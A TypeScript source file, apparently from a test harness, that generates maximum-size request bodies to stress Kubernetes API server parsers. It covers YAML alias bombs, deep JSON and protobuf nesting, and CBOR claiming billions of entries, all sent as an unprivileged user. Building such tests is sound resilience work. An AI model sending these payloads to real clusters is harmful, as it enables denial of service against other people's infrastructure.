/** Bodies of the maximum size that may be slow to parse. */

import { type Attack, NAMESPACE, repeat, requests } from '../attack.ts';

const REVIEWS = '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews';
const CONFIG_MAPS = `/api/v1/namespaces/${NAMESPACE}/configmaps`;
const REVIEW_HEAD =
  'apiVersion: authorization.k8s.io/v1\nkind: SelfSubjectAccessReview\nspec:\n  nonResourceAttributes: {path: /, verb: get}\n';
const CONFIG_MAP_HEAD = 'apiVersion: v1\nkind: ConfigMap\nmetadata: {generateName: a-}\n';
const MAX = 3_100_000;

/** As many repetitions as fit into the maximum body. */
function full(text: string, separator = ''): string {
  const length = text.length + separator.length + (text.match(/#/g)?.length ?? 0) * 5;
  return repeat(Math.floor((MAX - 1000) / length), text, separator);
}

/** A review, which a user without any role may send. */
function review(name: string, body: () => string): Attack {
  return requests(`yaml: ${name}`, () => ({
    path: REVIEWS,
    sender: 'ordinary',
    type: 'application/yaml',
    body: REVIEW_HEAD + body(),
  }));
}

function json(name: string, body: () => string): Attack {
  return requests(`json: ${name}`, () => ({
    path: REVIEWS,
    sender: 'ordinary',
    body: `{"kind":"SelfSubjectAccessReview","apiVersion":"authorization.k8s.io/v1","spec":{"nonResourceAttributes":{"path":"/","verb":"get"}}${body()}}`,
  }));
}

function configMap(name: string, body: () => string): Attack {
  return requests(`json: ${name}`, () => ({
    path: CONFIG_MAPS,
    body: `{"kind":"ConfigMap","apiVersion":"v1","metadata":{"generateName":"a-"}${body()}}`,
  }));
}

/** A protobuf envelope with `raw` as its object. */
function envelope(apiVersion: string, kind: string, raw: Uint8Array): Uint8Array {
  const field = (number: number, value: Uint8Array) =>
    Buffer.concat([varint(number * 8 + 2), varint(value.byteLength), value]);
  const type = Buffer.concat([field(1, Buffer.from(apiVersion)), field(2, Buffer.from(kind))]);
  return Buffer.concat([Buffer.from('k8s\0'), field(1, type), field(2, raw)]);
}

function varint(value: number): Uint8Array {
  const bytes: number[] = [];
  for (let rest = value; ; rest = Math.floor(rest / 128)) {
    if (rest < 128) return Uint8Array.from([...bytes, rest]);
    bytes.push((rest % 128) | 128);
  }
}

function protobuf(name: string, raw: () => Uint8Array): Attack {
  return requests(`protobuf: ${name}`, () => ({
    path: REVIEWS,
    sender: 'ordinary',
    type: 'application/vnd.kubernetes.protobuf',
    body: envelope('authorization.k8s.io/v1', 'SelfSubjectAccessReview', raw()),
  }));
}

function cbor(name: string, raw: () => Uint8Array): Attack {
  return requests(`cbor: ${name}`, () => ({
    path: REVIEWS,
    sender: 'ordinary',
    type: 'application/cbor',
    body: Buffer.concat([Buffer.from([0xd9, 0xd9, 0xf7]), raw()]),
  }));
}

const bytes = (...values: number[]) => Uint8Array.from(values);
const filled = (pattern: Uint8Array, size = MAX - 100) =>
  Buffer.alloc(Math.floor(size / pattern.byteLength) * pattern.byteLength, pattern);

/** Nested messages, built from the inside out: `depth` times the field's tag and length. */
function nested(depth: number): Uint8Array {
  const parts: Uint8Array[] = [];
  let size = 0;
  for (let i = 0; i < depth && size < MAX - 200; i++) {
    const head = Buffer.concat([bytes(0x0a), varint(size)]);
    parts.push(head);
    size += head.byteLength;
  }
  return Buffer.concat(parts.reverse());
}

export function bodyAttacks(): Attack[] {
  return [
    review('a key 40,000 times', () => repeat(40_000, 'k: b\n')),
    review('a key as often as fits', () => full('k: b\n')),
    review('a key as often as fits, in a flow map', () => `k: {${full('k: b', ',')}}\n`),
    review('different keys', () => full('k#: b\n')),
    review('comments', () => full('#\n').replaceAll(/\d+/g, '#')),
    review('empty lines', () => `${'\n'.repeat(MAX - 1000)}`),
    review('anchors', () => `k:\n${full('- &a# b\n')}`),
    review('one anchor again and again', () => `k:\n${full('- &a b\n')}`),
    review('aliases', () => `a: &a b\nk:\n${full('- *a\n')}`),
    review(
      'aliases of aliases',
      () => `a0: &a0 [b,b,b,b,b,b,b,b,b]\n${repeat(60_000, 'b#: &b# [*a0,*a0]\n')}`,
    ),
    review('merge keys', () => `a: &a {b: c}\n${full('k#: {<<: *a}\n')}`),
    review(
      'merges of merges',
      () => `a: &a {${repeat(1000, 'x#: c', ',')}}\nk: {<<: [${full('*a', ',')}]}\n`,
    ),
    review('lists of one line', () => `k: [${full('b', ',')}]\n`),
    review('list entries', () => `k:\n${full('- b\n')}`),
    review('nesting in a flow list', () => `k: ${'['.repeat(MAX - 1000)}`),
    review('nesting in a flow map', () => `k: ${full('{a: ')}`),
    review('nesting in block lists', () => `k:\n${'- '.repeat(MAX / 2 - 1000)}`),
    review('nesting by indent', () =>
      Array.from({ length: 2400 }, (_, i) => `${' '.repeat(i)}a:\n`).join(''),
    ),
    review('explicit keys', () => full('? k#\n')),
    review('questions', () => `${'? '.repeat(MAX / 2 - 1000)}`),
    review('a plain scalar of many lines', () => `k: a\n${full(' b\n')}`),
    review('a quoted scalar of many lines', () => `k: "a\n${full(' b\n')}"\n`),
    review('a quoted scalar of escapes', () => `k: "${full('\\x41')}"\n`),
    review('an open quote', () => `k: "${'a'.repeat(MAX - 1000)}`),
    review('quotes in a row', () => `k: '${"''".repeat(MAX / 2 - 1000)}'\n`),
    review('a block scalar', () => `k: |\n${full('  b\n')}`),
    review('a folded block scalar', () => `k: >\n${full('  b\n\n')}`),
    review('a block scalar of spaces', () => `k: |\n${full('    \n')}`),
    review('white space', () => `k:${' '.repeat(MAX - 1000)}b\n`),
    review('tags', () => `k:\n${full('- !!str b\n')}`),
    review('documents', () => full('---\nb\n')),
    review('directives', () => full('%YAML 1.1\n---\n')),
    review('colons', () => `k: ${full('a: ')}`),
    review('a number of many digits', () => `k: ${'1'.repeat(MAX - 1000)}\n`),
    review('numbers with underscores', () => `k: ${'1_'.repeat(MAX / 2 - 1000)}\n`),
    review('carriage returns', () => '\r'.repeat(MAX - 1000)),
    review('byte order marks', () => `k: ${'\ufeff'.repeat(MAX / 3 - 1000)}`),
    json('unknown fields', () => `,${full('"k#":0', ',')}`),
    json('an unknown field again and again', () => `,${full('"k":0', ',')}`),
    json('lists in a list', () => `,"k":[${full('[]', ',')}]`),
    json('numbers', () => `,"k":[${full('0', ',')}]`),
    json('nesting', () => `,"k":${'['.repeat(MAX / 2 - 500)}${']'.repeat(MAX / 2 - 500)}`),
    json('nesting that is not closed', () => `,"k":${'['.repeat(MAX - 500)}`),
    json('nesting of objects', () => `,"k":${'{"a":'.repeat(MAX / 6 - 500)}0${'}'.repeat(MAX / 6 - 500)}`),
    json('a number of many digits', () => `,"k":${'1'.repeat(MAX - 500)}`),
    json('white space', () => `,"k":${' '.repeat(MAX - 500)}0`),
    json('escapes', () => `,"k":"${'\\u0041'.repeat(MAX / 6 - 500)}"`),
    json('an open string', () => `,"k":"${'a'.repeat(MAX - 500)}`),
    json('backslashes', () => `,"k":"${'\\\\'.repeat(MAX / 2 - 500)}"`),
    json('a syntax error at the end', () => `,${full('"k#":0', ',')},`),
    json(
      'groups of extra',
      () =>
        `,"spec":{"resourceAttributes":{"fieldSelector":{"requirements":[${full('{"key":"k#"}', ',')}]}}}`,
    ),
    configMap('190,000 keys', () => `,"data":{${repeat(190_000, '"k#":"b"', ',')}}`),
    configMap('190,000 bad keys', () => `,"data":{${repeat(190_000, '"/#":"b"', ',')}}`),
    configMap('as many keys as fit, and no values', () => `,"data":{${full('"k#":""', ',')}}`),
    configMap('a value of the largest size', () => `,"data":{"k":"${'b'.repeat(MAX - 1000)}"}`),
    ...[
      ['lines', 'b\\n'],
      ['escapes', ' \\u0001'],
      ['words', 'b '],
      ['digits', '1'],
      ['quotes', "' "],
    ].map(([kind, text]) =>
      requests(`json: a value of ${kind}, answered in YAML`, () => ({
        path: `${CONFIG_MAPS}?dryRun=All`,
        headers: { accept: 'application/yaml' },
        body: `{"metadata":{"generateName":"a-"},"data":{"k":"${text!.repeat(1_000_000 / JSON.parse(`"${text}"`).length)}"}}`,
      })),
    ),
    configMap('binary data', () => `,"binaryData":{${full('"k#":"AAAA"', ',')}}`),
    configMap('labels', () => `,"metadata":{"name":"a","labels":{${full('"k#":"b"', ',')}}}`),
    configMap('bad labels', () => `,"metadata":{"name":"a","labels":{${full('"/k#":"/b"', ',')}}}`),
    configMap('annotations', () => `,"metadata":{"name":"a","annotations":{${full('"k#":"b"', ',')}}}`),
    configMap('finalizers', () => `,"metadata":{"name":"a","finalizers":[${full('"k.io/#"', ',')}]}`),
    configMap('bad finalizers', () => `,"metadata":{"name":"a","finalizers":[${full('"#"', ',')}]}`),
    configMap(
      'owners',
      () =>
        `,"metadata":{"name":"a","ownerReferences":[${full('{"apiVersion":"v1","kind":"Pod","name":"p#","uid":"u#"}', ',')}]}`,
    ),
    configMap(
      'controllers',
      () =>
        `,"metadata":{"name":"a","ownerReferences":[${full('{"apiVersion":"v1","kind":"Pod","name":"p#","uid":"u#","controller":true}', ',')}]}`,
    ),
    configMap(
      'managers',
      () =>
        `,"metadata":{"name":"a","managedFields":[${full('{"manager":"m#","operation":"Update","apiVersion":"v1","time":"2020-01-01T00:00:00Z","fieldsType":"FieldsV1","fieldsV1":{}}', ',')}]}`,
    ),
    configMap(
      'fields of a manager',
      () =>
        `,"metadata":{"name":"a","managedFields":[{"manager":"m","operation":"Update","apiVersion":"v1","time":"2020-01-01T00:00:00Z","fieldsType":"FieldsV1","fieldsV1":{"f:data":{${full('"f:k#":{}', ',')}}}}]}`,
    ),
    configMap(
      'a deep tree of a manager',
      () =>
        `,"metadata":{"name":"a","managedFields":[{"manager":"m","operation":"Update","apiVersion":"v1","time":"2020-01-01T00:00:00Z","fieldsType":"FieldsV1","fieldsV1":${'{"f:a":'.repeat(900)}{}${'}'.repeat(900)}}]}`,
    ),
    requests('yaml: a ConfigMap of 190,000 keys', () => ({
      path: CONFIG_MAPS,
      type: 'application/yaml',
      body: `${CONFIG_MAP_HEAD}data:\n${repeat(190_000, '  k#: b\n')}`,
    })),
    protobuf('nesting', () => nested(1_000_000)),
    protobuf('empty fields of a kind', () => filled(bytes(0x0a, 0x00))),
    protobuf('unknown fields', () => filled(bytes(0xf8, 0x07, 0x01))),
    protobuf('groups', () => filled(bytes(0x0b))),
    protobuf('long numbers', () => filled(bytes(0xff))),
    protobuf('a length beyond the end', () => bytes(0x0a, 0xff, 0xff, 0xff, 0xff, 0x07)),
    cbor('nesting', () => filled(bytes(0x81))),
    cbor('lists of no given length', () => filled(bytes(0x9f))),
    cbor('a list of billions', () => bytes(0x9a, 0xff, 0xff, 0xff, 0xff)),
    cbor('a map of billions', () => bytes(0xbb, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff)),
    cbor('a string in pieces', () =>
      Buffer.concat([bytes(0xa1, 0x61, 0x6b, 0x7f), filled(bytes(0x61, 0x61)), bytes(0xff)]),
    ),
    cbor('a number of millions of bits', () =>
      Buffer.concat([bytes(0xa1, 0x61, 0x6b, 0xc2, 0x5a, 0x00, 0x2e, 0x00, 0x00), Buffer.alloc(0x2e0000, 1)]),
    ),
    cbor('keys', () => {
      const pairs = Array.from({ length: 280_000 }, (_, i) =>
        Buffer.concat([bytes(0x67), Buffer.from(String(i).padStart(7, '0')), bytes(0x00)]),
      );
      return Buffer.concat([bytes(0xba, 0, 4, 0x45, 0xc0), ...pairs]);
    }),
  ];
}
